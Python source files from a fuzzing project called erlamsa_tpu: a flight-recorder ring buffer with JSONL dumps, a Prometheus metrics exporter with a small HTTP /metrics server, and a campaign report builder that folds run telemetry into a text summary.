        """Record a resilience/lifecycle event; auto-dump on trip kinds."""
        entry = {"t": round(time.monotonic() - self._t0, 6),
                 "type": "event", "kind": kind}
        tid = _active_trace_id()
        if tid:
            entry["trace"] = tid
        if fields:
            entry.update(fields)
        with self._lock:
            self._ring.append(entry)
            self._seq += 1
        if kind in TRIP_KINDS:
            self.dump(kind)

    def note_span(self, name: str, span_id: int, parent_id: int,
                  t0: float, dur: float, attrs: dict) -> None:
        """Record a finished span (called by the tracer, so only while
        tracing is enabled)."""
        entry = {"t": round(t0, 6), "type": "span", "name": name,
                 "span_id": span_id, "parent_id": parent_id,
                 "dur": round(dur, 6)}
        tid = _active_trace_id()
        if tid:
            entry["trace"] = tid
        if attrs:
            entry["attrs"] = dict(attrs)
        with self._lock:
            self._ring.append(entry)
            self._seq += 1

    def ingest(self, entries: list, node: str) -> int:
        """Fold a worker's shipped flight-ring tail into this ring,
        node-stamped, so one SIGUSR2 dump captures the fleet. Returns
        the number folded."""
        n = 0
        with self._lock:
            for entry in entries:
                if not isinstance(entry, dict):
                    continue
                stamped = dict(entry)
                stamped["node"] = node
                self._ring.append(stamped)
                self._seq += 1
                n += 1
        return n

    def tail_since(self, seq: int) -> tuple[list, int]:
        """Entries appended after cursor `seq` (capped at ring size),
        plus the new cursor — the worker-side telemetry tail. The ring
        is append-only FIFO, so the last ``total-seq`` appends are
        exactly the ring's tail slice."""
        with self._lock:
            fresh = max(0, self._seq - max(0, int(seq)))
            fresh = min(fresh, len(self._ring))
            entries = list(self._ring)[len(self._ring) - fresh:]
            return entries, self._seq

    # -- dumping ----------------------------------------------------------

    def dump(self, reason: str, force: bool = False) -> str | None:
        """Write the ring to a timestamped JSONL file; returns the path,
        or None when no directory is configured / debounced. SIGUSR2 and
        explicit calls bypass the debounce (force)."""
        force = force or reason == "sigusr2"
        with self._lock:
            if not self._dir:
                self._warn_once(reason)
                return None
            now = time.monotonic()
            if not force and now - self._last_dump < DUMP_DEBOUNCE_S:
                return None
            self._last_dump = now
            self._dumps += 1
            entries = list(self._ring)
            seq = self._dumps
            dump_dir = self._dir
        stamp = time.strftime("%Y%m%d-%H%M%S")
        safe = "".join(c if c.isalnum() or c in "-_" else "_" for c in reason)
        path = os.path.join(dump_dir, f"flightrec-{stamp}-{seq:03d}-{safe}.jsonl")
        try:
            with open(path, "w") as f:
                f.write(json.dumps({"type": "meta", "reason": reason,
                                    "entries": len(entries)}) + "\n")
                for entry in entries:
                    f.write(json.dumps(entry) + "\n")
        except OSError as e:
            from ..services import logger, metrics

            # counted, not just logged: erlamsa_flight_dump_failed_total
            # (record_event's flight mirror is a plain append — no
            # recursion, "flight_dump_failed" is not a trip kind)
            metrics.GLOBAL.record_event("flight_dump_failed")
            logger.log("error", "flight recorder dump failed: %s", e)
            return None
        from ..services import logger

        logger.log("warning", "flight recorder: dumped %d entries to %s "
                   "(reason: %s)", len(entries), path, reason)
        return path

    def _warn_once(self, reason: str):
        # only nag on real trips, once per process
        if getattr(self, "_warned", False) or reason == "sigusr2":
            return
        self._warned = True
        from ..services import logger

        logger.log("info", "flight recorder: trip '%s' but no --flight-dir "
                   "configured; ring not dumped", reason)

    def stats(self) -> dict:
        with self._lock:
            return {"entries": len(self._ring), "dumps": self._dumps,
                    "dir": self._dir}


GLOBAL = FlightRecorder()


def configure(dump_dir: str | None):
    GLOBAL.configure(dump_dir)


def note(kind: str, **fields) -> None:
    GLOBAL.note(kind, **fields)


def dump(reason: str, force: bool = False) -> str | None:
    return GLOBAL.dump(reason, force=force)


def ingest(entries: list, node: str) -> int:
    return GLOBAL.ingest(entries, node)


def tail_since(seq: int) -> tuple[list, int]:
    return GLOBAL.tail_since(seq)
