"""Prometheus text exposition over the metrics snapshot.

render() turns services.metrics.Counters into the text format
(version 0.0.4): throughput counters, derived-rate gauges, per-mutator
and per-bucket tallies (padded-bytes-wasted is the gauge the paged-arena
roadmap item wants driven to ~0), resilience/fault/breaker state, and
the log2 latency histograms as cumulative ``le`` buckets.

Served from two places, both thin wrappers around render():

  * ``GET /metrics`` on the faas server (services/faas.py)
  * a standalone stdlib HTTP exporter on ``--metrics-port`` for batch
    runs that have no faas server to scrape

This module imports services.metrics, so unlike the rest of obs/ it is
NOT imported from the obs package __init__ — faas/cli import it lazily.
"""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from ..services import metrics
from . import hist as obs_hist

CONTENT_TYPE = "text/plain; version=0.0.4; charset=utf-8"

#: histogram name -> Prometheus metric stem
_HIST_METRICS = {
    "batch_latency": "erlamsa_batch_latency_seconds",
    "request_latency": "erlamsa_request_latency_seconds",
    "device_step": "erlamsa_device_step_seconds",
}


def _escape(value: str) -> str:
    return (str(value).replace("\\", "\\\\").replace('"', '\\"')
            .replace("\n", "\\n"))


def _fmt(v: float) -> str:
    if v == float("inf"):
        return "+Inf"
    f = float(v)
    return repr(int(f)) if f == int(f) else repr(f)


class _Writer:
    def __init__(self):
        self.lines: list[str] = []

    def head(self, name: str, kind: str, help_text: str):
        self.lines.append(f"# HELP {name} {help_text}")
        self.lines.append(f"# TYPE {name} {kind}")

    def sample(self, name: str, value, labels: dict | None = None):
        if labels:
            inner = ",".join(f'{k}="{_escape(v)}"'
                             for k, v in labels.items())
            self.lines.append(f"{name}{{{inner}}} {_fmt(value)}")
        else:
            self.lines.append(f"{name} {_fmt(value)}")

    def text(self) -> str:
        return "\n".join(self.lines) + "\n"


def render(counters: metrics.Counters | None = None) -> str:
    """The full exposition for one Counters instance (default: GLOBAL)."""
    c = counters if counters is not None else metrics.GLOBAL
    snap = c.snapshot()
    w = _Writer()

    w.head("erlamsa_samples_total", "counter", "Fuzzed samples produced.")
    w.sample("erlamsa_samples_total", snap["samples"])
    w.head("erlamsa_batches_total", "counter", "Device batches stepped.")
    w.sample("erlamsa_batches_total", snap["batches"])
    w.head("erlamsa_requests_total", "counter",
           "Client requests answered (faas/batcher).")
    w.sample("erlamsa_requests_total", snap["requests"])
    w.head("erlamsa_bytes_out_total", "counter", "Output bytes produced.")
    w.sample("erlamsa_bytes_out_total", snap["bytes_out"])
    w.head("erlamsa_device_seconds_total", "counter",
           "Cumulative device step time.")
    w.sample("erlamsa_device_seconds_total", snap["device_s"])

    w.head("erlamsa_samples_per_second", "gauge",
           "Samples/sec since process start (derived in snapshot).")
    w.sample("erlamsa_samples_per_second", snap["samples_per_sec"])
    w.head("erlamsa_requests_per_second", "gauge",
           "Requests/sec since process start (derived in snapshot).")
    w.sample("erlamsa_requests_per_second", snap["requests_per_sec"])

    pipeline = snap["pipeline"]
    w.head("erlamsa_pipeline_overlap_ratio", "gauge",
           "Sum of per-stage wall over pipelined wall (1.0 = serialized).")
    w.sample("erlamsa_pipeline_overlap_ratio", pipeline["overlap_ratio"])
    w.head("erlamsa_device_idle_fraction", "gauge",
           "Fraction of pipelined wall with no device step in flight.")
    w.sample("erlamsa_device_idle_fraction", pipeline["device_idle_frac"])
    w.head("erlamsa_drain_backlog_peak", "gauge",
           "High-water mark of cases queued behind the drain worker.")
    w.sample("erlamsa_drain_backlog_peak", pipeline["drain_backlog_peak"])
    w.head("erlamsa_fleet_reduce_overlap_ratio", "gauge",
           "Fraction of the fleet merge hidden behind the next case's "
           "map (1.0 = fully overlapped).")
    w.sample("erlamsa_fleet_reduce_overlap_ratio",
             pipeline.get("reduce_overlap", 0.0))
    w.head("erlamsa_stage_seconds_total", "counter",
           "Cumulative wall seconds per pipeline stage.")
    for stage, secs in pipeline["stages"].items():
        w.sample("erlamsa_stage_seconds_total", secs, {"stage": stage})

    resilience = snap["resilience"]
    w.head("erlamsa_degraded", "gauge",
           "1 while serving from the host oracle after device loss.")
    w.sample("erlamsa_degraded", resilience["degraded"])
    w.head("erlamsa_fault_injected_total", "counter",
           "Chaos-injected failures fired, by site.")
    for site, n in sorted(resilience["faults"].items()):
        w.sample("erlamsa_fault_injected_total", n, {"site": site})
    w.head("erlamsa_resilience_events_total", "counter",
           "Resilience events (retries, breaker transitions, failovers).")
    for kind, n in sorted(resilience["events"].items()):
        w.sample("erlamsa_resilience_events_total", n, {"kind": kind})
    w.head("erlamsa_flight_dump_failed_total", "counter",
           "Flight recorder dumps that failed to hit disk.")
    w.sample("erlamsa_flight_dump_failed_total",
             resilience["events"].get("flight_dump_failed", 0))
    w.head("erlamsa_telemetry_lost_total", "counter",
           "Fleet telemetry exchanges dropped (chaos or wire fault); "
           "the campaign itself is unaffected.")
    w.sample("erlamsa_telemetry_lost_total",
             resilience["events"].get("telemetry_lost", 0))

    w.head("erlamsa_mutator_applied_total", "counter",
           "Mutations applied, by mutator registry code.")
    for code, entry in snap["mutators"].items():
        w.sample("erlamsa_mutator_applied_total", entry["applied"],
                 {"code": code})
    w.head("erlamsa_mutator_failed_total", "counter",
           "Mutations attempted but not applied, by mutator code.")
    for code, entry in snap["mutators"].items():
        w.sample("erlamsa_mutator_failed_total", entry["failed"],
                 {"code": code})

    w.head("erlamsa_host_routed_total", "counter",
           "Samples served by the host engine instead of the device, by "
           "mutator code (overflow = past the device budget). With "
           "--struct-kernels only zip/overflow should appear.")
    for code, n in snap["host_routed"].items():
        w.sample("erlamsa_host_routed_total", n, {"code": code})
    w.head("erlamsa_host_tail_pct", "gauge",
           "Percent of routed samples served by the host engine.")
    w.sample("erlamsa_host_tail_pct", snap["host_tail_pct"])

    w.head("erlamsa_bucket_rows_total", "counter",
           "Rows assembled, by capacity bucket.")
    for cap, b in snap["buckets"].items():
        w.sample("erlamsa_bucket_rows_total", b["rows"], {"capacity": cap})
    w.head("erlamsa_bucket_padded_bytes_wasted_total", "counter",
           "Padding bytes uploaded but never fuzzed, by capacity bucket.")
    for cap, b in snap["buckets"].items():
        w.sample("erlamsa_bucket_padded_bytes_wasted_total",
                 b["padded_bytes_wasted"], {"capacity": cap})

    w.head("erlamsa_truncated_rows_total", "counter",
           "Scheduled rows truncated to the device/arena capacity.")
    w.sample("erlamsa_truncated_rows_total", snap.get("truncated", 0))

    arena = snap.get("arena")
    if arena:
        w.head("erlamsa_arena_pages", "gauge",
               "Total pages in the device-resident corpus arena.")
        w.sample("erlamsa_arena_pages", arena["pages"])
        w.head("erlamsa_arena_pages_free", "gauge",
               "Free-list length of the corpus arena (pages).")
        w.sample("erlamsa_arena_pages_free", arena["pages_free"])
        w.head("erlamsa_arena_page_occupancy", "gauge",
               "Fraction of allocatable arena pages holding seed bytes.")
        w.sample("erlamsa_arena_page_occupancy", arena["occupancy"])
        w.head("erlamsa_arena_resident_seeds", "gauge",
               "Seeds currently resident in arena pages.")
        w.sample("erlamsa_arena_resident_seeds", arena["resident_seeds"])
        w.head("erlamsa_arena_evictions_total", "counter",
               "Seed runs evicted from the arena (LRU, on pressure).")
        w.sample("erlamsa_arena_evictions_total", arena["evictions"])
        w.head("erlamsa_arena_defrags_total", "counter",
               "Arena defrag compactions performed.")
        w.sample("erlamsa_arena_defrags_total", arena["defrags"])
        w.head("erlamsa_arena_spills_total", "counter",
               "Seeds served from the host-overlay spill path.")
        w.sample("erlamsa_arena_spills_total", arena["spills"])
        w.head("erlamsa_arena_bytes_uploaded_total", "counter",
               "Bytes uploaded into arena pages at admission.")
        w.sample("erlamsa_arena_bytes_uploaded_total",
                 arena["bytes_uploaded"])
        if "bytes_gathered" in arena:
            w.head("erlamsa_arena_bytes_gathered_total", "counter",
                   "Bytes gathered out of live arena pages into step "
                   "working buffers.")
            w.sample("erlamsa_arena_bytes_gathered_total",
                     arena["bytes_gathered"])
        if "adopted" in arena:
            w.head("erlamsa_arena_adopted_total", "counter",
                   "Offspring adopted device-side (payload never "
                   "crossed PCIe).")
            w.sample("erlamsa_arena_adopted_total", arena["adopted"])
        # per-capacity-class health (ragged arena only: absent keys mean
        # a pre-ragged snapshot and must not render as zeros)
        classes = arena.get("classes")
        if classes:
            w.head("erlamsa_arena_class_pages", "gauge",
                   "Arena pages held by resident seeds, by capacity "
                   "class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_pages", cc["pages"],
                         {"class": cap})
            w.head("erlamsa_arena_class_resident_seeds", "gauge",
                   "Seeds resident in the arena, by capacity class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_resident_seeds",
                         cc["resident_seeds"], {"class": cap})
            w.head("erlamsa_arena_class_occupancy", "gauge",
                   "Fraction of allocatable arena pages held by each "
                   "capacity class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_occupancy",
                         cc["occupancy"], {"class": cap})
            w.head("erlamsa_arena_class_evictions_total", "counter",
                   "Seed runs evicted from the arena, by capacity "
                   "class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_evictions_total",
                         cc["evictions"], {"class": cap})
            w.head("erlamsa_arena_class_defrag_moves_total", "counter",
                   "Seed runs moved by defrag compactions, by capacity "
                   "class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_defrag_moves_total",
                         cc["defrag_moves"], {"class": cap})
            w.head("erlamsa_arena_class_adopted_total", "counter",
                   "Offspring adopted device-side, by capacity class.")
            for cap, cc in classes.items():
                w.sample("erlamsa_arena_class_adopted_total",
                         cc["adopted"], {"class": cap})

    fleet = snap.get("fleet")
    if fleet:
        w.head("erlamsa_fleet_shards", "gauge",
               "Configured corpus fleet shard count.")
        w.sample("erlamsa_fleet_shards", fleet["shards"])
        w.head("erlamsa_fleet_live_shards", "gauge",
               "Shards currently holding a lease (breaker closed).")
        w.sample("erlamsa_fleet_live_shards", fleet["live"])
        w.head("erlamsa_fleet_epoch", "counter",
               "Lease epoch: bumps on every revoke/readmit migration.")
        w.sample("erlamsa_fleet_epoch", fleet["epoch"])
        w.head("erlamsa_fleet_migrations_total", "counter",
               "Partition migrations applied (revokes + readmits).")
        w.sample("erlamsa_fleet_migrations_total", fleet["migrations"])
        w.head("erlamsa_fleet_shard_partitions", "gauge",
               "Partitions currently leased, by shard.")
        for sid, lease in sorted(fleet["leases"].items()):
            w.sample("erlamsa_fleet_shard_partitions",
                     len(lease["partitions"]), {"shard": sid})
        w.head("erlamsa_fleet_shard_live", "gauge",
               "1 while the shard holds a live lease, by shard.")
        for sid, lease in sorted(fleet["leases"].items()):
            w.sample("erlamsa_fleet_shard_live",
                     1 if lease["live"] else 0, {"shard": sid})

    membership = snap.get("fleet_membership")
    if membership:
        w.head("erlamsa_fleet_membership_generation", "counter",
               "Membership ledger generation: bumps on every "
               "join/drain/evict/readmit/vacate event.")
        w.sample("erlamsa_fleet_membership_generation",
                 membership.get("generation", 0))
        w.head("erlamsa_fleet_membership_events_total", "counter",
               "Membership events recorded, by kind.")
        for kind, n in sorted((membership.get("events") or {}).items()):
            w.sample("erlamsa_fleet_membership_events_total", n,
                     {"kind": kind})
        w.head("erlamsa_fleet_membership_vacant", "gauge",
               "Remote shard slots currently without a tenant worker.")
        w.sample("erlamsa_fleet_membership_vacant",
                 membership.get("vacant", 0))

    transport = snap.get("fleet_transport")
    if transport and (transport["bytes_sent"] or transport["bytes_recv"]
                      or transport["round_trips"]):
        w.head("erlamsa_fleet_transport_bytes_total", "counter",
               "Framed shard-stream bytes on the wire, by direction.")
        w.sample("erlamsa_fleet_transport_bytes_total",
                 transport["bytes_sent"], {"dir": "sent"})
        w.sample("erlamsa_fleet_transport_bytes_total",
                 transport["bytes_recv"], {"dir": "recv"})
        w.head("erlamsa_fleet_round_trips_total", "counter",
               "Awaited shard exchanges (lease, snapshot, probe, "
               "window sync) — fire-and-forget steps excluded.")
        w.sample("erlamsa_fleet_round_trips_total",
                 transport["round_trips"])
        w.head("erlamsa_fleet_frame_bytes_max", "gauge",
               "Largest physical frame on any shard stream — bounded "
               "by ERLAMSA_FRAME_CHUNK via continuation frames.")
        w.sample("erlamsa_fleet_frame_bytes_max",
                 transport.get("frame_bytes_max", 0))

    serving = snap.get("serving")
    if serving:
        w.head("erlamsa_batcher_fill_efficiency", "gauge",
               "Windowed EWMA of per-step slot/batch fill (0..1).")
        w.sample("erlamsa_batcher_fill_efficiency",
                 serving["fill_efficiency"], {"mode": serving["mode"]})
        w.head("erlamsa_serving_steps_total", "counter",
               "Device steps run by the serving engine.")
        w.sample("erlamsa_serving_steps_total", serving["steps"],
                 {"mode": serving["mode"]})
        w.head("erlamsa_serving_steps_per_request", "gauge",
               "Device steps per answered request (<1 = batching wins).")
        w.sample("erlamsa_serving_steps_per_request",
                 serving["steps_per_request"], {"mode": serving["mode"]})
        w.head("erlamsa_serving_backlog", "gauge",
               "Requests admitted but not yet dispatched to the device.")
        w.sample("erlamsa_serving_backlog", serving["backlog"],
                 {"mode": serving["mode"]})
        w.head("erlamsa_serving_compiled_steps", "gauge",
               "Entries in the compiled-step cache (ops/slots.py).")
        w.sample("erlamsa_serving_compiled_steps", serving["compiled_steps"])
        w.head("erlamsa_serving_compiles_total", "counter",
               "Compiled-step cache misses (XLA compiles paid).")
        w.sample("erlamsa_serving_compiles_total", serving["compiles"])

    coverage = snap.get("coverage")
    if coverage and (coverage["frames"] or coverage["stale"]
                     or coverage["torn"] or coverage["faulted"]
                     or coverage["folds"] or coverage["degraded"]):
        w.head("erlamsa_coverage_frames_total", "counter",
               "Edge-bitmap frames received by the coverage hub, by "
               "disposition (ok / stale epoch / torn / injected fault).")
        w.sample("erlamsa_coverage_frames_total", coverage["frames"],
                 {"result": "ok"})
        for res in ("stale", "torn", "faulted"):
            w.sample("erlamsa_coverage_frames_total", coverage[res],
                     {"result": res})
        w.head("erlamsa_coverage_folds_total", "counter",
               "Per-case coverage folds applied at case boundaries.")
        w.sample("erlamsa_coverage_folds_total", coverage["folds"])
        w.head("erlamsa_coverage_new_edges_total", "counter",
               "Genuinely-new edges discovered (sequential per-slot "
               "gains).")
        w.sample("erlamsa_coverage_new_edges_total", coverage["new_edges"])
        w.head("erlamsa_coverage_edges", "gauge",
               "Distinct edges in the accumulated global coverage map.")
        w.sample("erlamsa_coverage_edges", coverage["edges"])
        w.head("erlamsa_coverage_degraded", "gauge",
               "1 after the monitor plane died and the campaign fell "
               "back to hash-novelty (sticky for the run).")
        w.sample("erlamsa_coverage_degraded", coverage["degraded"])
        w.head("erlamsa_coverage_distilled_total", "counter",
               "Seeds retired by greedy set-cover distillation.")
        w.sample("erlamsa_coverage_distilled_total", coverage["distilled"])

    gen = snap.get("gen")
    if gen and (gen["expansions"] or gen["host_fallback"]
                or gen["degraded"]):
        w.head("erlamsa_gen_expansions_total", "counter",
               "Grammar samples expanded (device kernel + host fallback).")
        w.sample("erlamsa_gen_expansions_total", gen["expansions"])
        w.head("erlamsa_gen_bytes_total", "counter",
               "Bytes produced by grammar expansion (pre-padding lengths).")
        w.sample("erlamsa_gen_bytes_total", gen["bytes"])
        w.head("erlamsa_gen_truncated_total", "counter",
               "Expansions clipped to the compiled emit width.")
        w.sample("erlamsa_gen_truncated_total", gen["truncated"])
        w.head("erlamsa_gen_host_fallback_total", "counter",
               "Samples expanded by the keyed host oracle after a "
               "gen.expand device fault.")
        w.sample("erlamsa_gen_host_fallback_total", gen["host_fallback"])
        w.head("erlamsa_gen_degraded", "gauge",
               "1 while grammar expansion is served by the host oracle.")
        w.sample("erlamsa_gen_degraded", gen["degraded"])

    monitors = snap.get("monitors")
    if monitors:
        w.head("erlamsa_monitor_events_total", "counter",
               "Monitor-plane events (spawns, spawn failures, hang "
               "kills, crashes, dedup hits), by kind.")
        for kind, n in sorted(monitors.items()):
            w.sample("erlamsa_monitor_events_total", n, {"kind": kind})

    rejected = snap.get("rejected")
    if rejected:
        w.head("erlamsa_faas_rejected_total", "counter",
               "Requests shed by admission control (HTTP 429), by reason.")
        for reason, n in sorted(rejected.items()):
            w.sample("erlamsa_faas_rejected_total", n, {"reason": reason})

    tenants = snap.get("tenants")
    if tenants:
        w.head("erlamsa_tenant_requests_total", "counter",
               "Requests served, by tenant.")
        for tenant, entry in tenants.items():
            w.sample("erlamsa_tenant_requests_total", entry["served"],
                     {"tenant": tenant})
        w.head("erlamsa_tenant_rejected_total", "counter",
               "Requests shed by admission control, by tenant.")
        for tenant, entry in tenants.items():
            w.sample("erlamsa_tenant_rejected_total", entry["rejected"],
                     {"tenant": tenant})

    for hist_name, metric in _HIST_METRICS.items():
        h = c.hists[hist_name].snapshot()
        w.head(metric, "histogram",
               f"Log2-bucketed {hist_name.replace('_', ' ')} in seconds.")
        # canonical cumulative-le conversion (obs/hist.py) — the +Inf
        # bucket must equal _count, including overflow observations
        for bound, cum in obs_hist.cumulative_buckets(h["counts"]):
            w.sample(metric + "_bucket", cum, {"le": _fmt(bound)})
        w.sample(metric + "_sum", h["sum"])
        w.sample(metric + "_count", h["count"])

    # federated worker families (erlamsa_worker_*{node=...}) — lazy
    # import keeps obs/__init__ jax-and-metrics free
    from . import federate

    federate.GLOBAL.render_into(w)

    return w.text()


class _MetricsHandler(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.split("?")[0] != "/metrics":
            self.send_error(404)
            return
        body = render().encode()
        self.send_response(200)
        self.send_header("Content-Type", CONTENT_TYPE)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, fmt, *args):
        pass  # scrapes every 15s must not spam stderr


def serve_metrics(port: int, host: str = "0.0.0.0", block: bool = False):
    """The ``--metrics-port`` exporter: /metrics on its own stdlib HTTP
    server, so batch runs (no faas) are scrapeable too. Returns the
    server; non-blocking by default (daemon thread)."""
    httpd = ThreadingHTTPServer((host, port), _MetricsHandler)
    httpd.daemon_threads = True
    if block:
        httpd.serve_forever()
        return httpd
    import threading

    t = threading.Thread(target=httpd.serve_forever, daemon=True,
                         name="metrics-exporter")
    t.start()
    from ..services import logger

    logger.log("info", "metrics exporter on %s:%d/metrics", host, port)
    return httpd
