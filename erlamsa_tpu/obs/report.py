"""The campaign report: one rendering of a run's telemetry artifacts.

``build_report`` folds the three artifact families a campaign leaves
behind — the metrics snapshot (services.metrics.Counters.snapshot),
the merged Chrome-trace document (obs/trace.export) and the federation
snapshot (obs/federate.snapshot) — into one plain-dict report:
per-stage cost ledger (seconds, share of wall, overlap), throughput,
transport bytes, resilience/fault tallies, coverage plane, per-node
worker totals, and a span census from the trace.

``render_text`` turns that dict into the human report; ``main`` is the
CLI:

    python -m erlamsa_tpu.obs.report --metrics M.json \\
        [--trace T.json] [--flight F.json] [--json OUT]

bench.py embeds the same dict (``stage_report``) in its record, so the
bench artifact and the CLI agree by construction. Everything here is
read-only over already-written artifacts — stdlib-pure, no services
import, safe from any process.
"""

from __future__ import annotations

import argparse
import json
import sys


def _stage_table(pipeline: dict) -> list[dict]:
    """Per-stage cost ledger rows, sorted by spent seconds descending."""
    stages = (pipeline or {}).get("stages") or {}
    total = sum(stages.values()) or 0.0
    rows = [
        {"stage": name, "seconds": round(float(secs), 3),
         "share_pct": round(100.0 * float(secs) / total, 1) if total else 0.0}
        for name, secs in stages.items()
    ]
    rows.sort(key=lambda r: (-r["seconds"], r["stage"]))
    return rows


def _span_census(trace_doc: dict) -> dict:
    """Fold a Chrome-trace document into {span name: {count, total_ms}}
    plus the fleet shape (nodes seen, remote span count, trace_id)."""
    events = (trace_doc or {}).get("traceEvents") or []
    census: dict[str, dict] = {}
    pids: set = set()
    nodes: dict = {}
    for ev in events:
        ph = ev.get("ph")
        if ph == "M":
            if ev.get("name") == "process_name":
                name = (ev.get("args") or {}).get("name", "")
                if str(name).startswith("worker:"):
                    nodes[ev.get("pid")] = str(name)[len("worker:"):]
            continue
        if ph != "X":
            continue
        pids.add(ev.get("pid"))
        row = census.setdefault(ev.get("name", "?"),
                                {"count": 0, "total_ms": 0.0})
        row["count"] += 1
        row["total_ms"] += float(ev.get("dur", 0)) / 1000.0
    for row in census.values():
        row["total_ms"] = round(row["total_ms"], 3)
    other = (trace_doc or {}).get("otherData") or {}
    return {
        "trace_id": other.get("trace_id", ""),
        "dropped_events": other.get("dropped_events", 0),
        "processes": len(pids),
        "worker_nodes": sorted(nodes.values()),
        "spans": dict(sorted(census.items())),
    }


def _flight_summary(entries: list) -> dict:
    """Count flight-ring entries by kind and by node (federated rings
    carry a node stamp; local entries count under "local")."""
    kinds: dict[str, int] = {}
    by_node: dict[str, int] = {}
    for e in entries or []:
        if not isinstance(e, dict):
            continue
        if e.get("kind") is not None:
            k = str(e["kind"])
        elif e.get("type") == "span":
            k = "span:" + str(e.get("name", "?"))
        else:
            k = str(e.get("type", "?"))
        kinds[k] = kinds.get(k, 0) + 1
        node = str(e.get("node", "local"))
        by_node[node] = by_node.get(node, 0) + 1
    return {"entries": sum(kinds.values()),
            "kinds": dict(sorted(kinds.items())),
            "by_node": dict(sorted(by_node.items()))}


def build_report(metrics_snap: dict | None = None,
                 trace_doc: dict | None = None,
                 flight_entries: list | None = None,
                 federation_snap: dict | None = None) -> dict:
    """Fold campaign artifacts into the report dict. Every input is
    optional — a missing artifact yields an absent/empty section, never
    an error, so the CLI works on whatever a run left behind."""
    snap = metrics_snap or {}
    pipeline = snap.get("pipeline") or {}
    resilience = snap.get("resilience") or {}
    report: dict = {
        "campaign": {
            "samples": snap.get("samples", 0),
            "batches": snap.get("batches", 0),
            "bytes_out": snap.get("bytes_out", 0),
            "wall_s": snap.get("wall_s", 0.0),
            "device_s": snap.get("device_s", 0.0),
            "samples_per_sec": snap.get("samples_per_sec", 0.0),
            "host_tail_pct": snap.get("host_tail_pct", 0.0),
            "degraded": (resilience or {}).get("degraded", 0),
        },
        "stages": {
            "ledger": _stage_table(pipeline),
            "wall_s": pipeline.get("wall_s", 0.0),
            "overlap_ratio": pipeline.get("overlap_ratio", 0.0),
            "device_idle_frac": pipeline.get("device_idle_frac", 0.0),
            "drain_backlog_peak": pipeline.get("drain_backlog_peak", 0),
            "reduce_overlap": pipeline.get("reduce_overlap", 0.0),
        },
        "transport": dict(snap.get("fleet_transport") or {}),
        "resilience": {
            "events": dict(sorted((resilience.get("events") or {}).items())),
            "faults": dict(sorted((resilience.get("faults") or {}).items())),
        },
        "coverage": dict(snap.get("coverage") or {}),
        "gen": dict(snap.get("gen") or {}),
    }
    if trace_doc is not None:
        report["trace"] = _span_census(trace_doc)
    if flight_entries is not None:
        report["flight"] = _flight_summary(flight_entries)
    if federation_snap is not None:
        fleet = {}
        for node, totals in sorted(
                (federation_snap.get("nodes") or {}).items()):
            c = (totals or {}).get("counters") or {}
            fleet[node] = {
                "samples": c.get("samples", 0),
                "batches": c.get("batches", 0),
                "device_s": c.get("device_s", 0.0),
                "degraded": c.get("degraded", 0),
                "telemetry_frames": (federation_snap.get("ingests")
                                     or {}).get(node, 0),
                "stages": dict((totals or {}).get("stages") or {}),
            }
        report["fleet"] = fleet
    return report


def render_text(report: dict) -> str:
    """The human rendering — same dict the JSON output carries."""
    out: list[str] = []
    w = out.append
    camp = report.get("campaign") or {}
    w("== erlamsa_tpu campaign report ==")
    w("samples %d  batches %d  bytes_out %d" % (
        camp.get("samples", 0), camp.get("batches", 0),
        camp.get("bytes_out", 0)))
    w("wall %.3fs  device %.3fs  %.1f samples/s  host-tail %.2f%%%s" % (
        camp.get("wall_s", 0.0), camp.get("device_s", 0.0),
        camp.get("samples_per_sec", 0.0), camp.get("host_tail_pct", 0.0),
        "  [DEGRADED]" if camp.get("degraded") else ""))

    stages = report.get("stages") or {}
    ledger = stages.get("ledger") or []
    if ledger:
        w("")
        w("-- stage ledger (pipeline wall %.3fs, overlap %.2fx, "
          "device idle %.0f%%) --" % (
              stages.get("wall_s", 0.0), stages.get("overlap_ratio", 0.0),
              100.0 * stages.get("device_idle_frac", 0.0)))
        width = max(len(r["stage"]) for r in ledger)
        for r in ledger:
            w("  %-*s %9.3fs %6.1f%%" % (width, r["stage"], r["seconds"],
                                         r["share_pct"]))

    transport = report.get("transport") or {}
    if any(transport.values()):
        w("")
        w("-- transport --")
        w("  sent %dB  recv %dB  round-trips %d" % (
            transport.get("bytes_sent", 0), transport.get("bytes_recv", 0),
            transport.get("round_trips", 0)))

    res = report.get("resilience") or {}
    events, faults = res.get("events") or {}, res.get("faults") or {}
    if events or faults:
        w("")
        w("-- resilience --")
        for kind, n in events.items():
            w("  event %-24s %d" % (kind, n))
        for site, n in faults.items():
            w("  fault %-24s %d" % (site, n))

    cov = report.get("coverage") or {}
    if cov.get("folds") or cov.get("frames"):
        w("")
        w("-- coverage --")
        w("  frames %d (stale %d torn %d)  folds %d  edges %d "
          "(+%d new)  distilled %d%s" % (
              cov.get("frames", 0), cov.get("stale", 0), cov.get("torn", 0),
              cov.get("folds", 0), cov.get("edges", 0),
              cov.get("new_edges", 0), cov.get("distilled", 0),
              "  [DEGRADED]" if cov.get("degraded") else ""))

    fleet = report.get("fleet") or {}
    if fleet:
        w("")
        w("-- fleet (%d worker node%s) --" % (
            len(fleet), "" if len(fleet) == 1 else "s"))
        for node, t in fleet.items():
            w("  %-22s samples %-8d batches %-6d device %.3fs  "
              "telemetry %d%s" % (
                  node, t.get("samples", 0), t.get("batches", 0),
                  t.get("device_s", 0.0), t.get("telemetry_frames", 0),
                  "  [DEGRADED]" if t.get("degraded") else ""))

    tr = report.get("trace") or {}
    spans = tr.get("spans") or {}
    if spans:
        w("")
        w("-- trace %s (%d process%s%s, %d dropped) --" % (
            tr.get("trace_id", "?"), tr.get("processes", 0),
            "" if tr.get("processes", 0) == 1 else "es",
            ", workers: " + ", ".join(tr.get("worker_nodes") or [])
            if tr.get("worker_nodes") else "",
            tr.get("dropped_events", 0)))
        width = max(len(n) for n in spans)
        for name, row in spans.items():
            w("  %-*s x%-6d %10.3fms" % (width, name, row["count"],
                                         row["total_ms"]))

    fl = report.get("flight") or {}
    if fl.get("entries"):
        w("")
        w("-- flight ring (%d entries) --" % fl["entries"])
        for kind, n in (fl.get("kinds") or {}).items():
            w("  %-24s %d" % (kind, n))
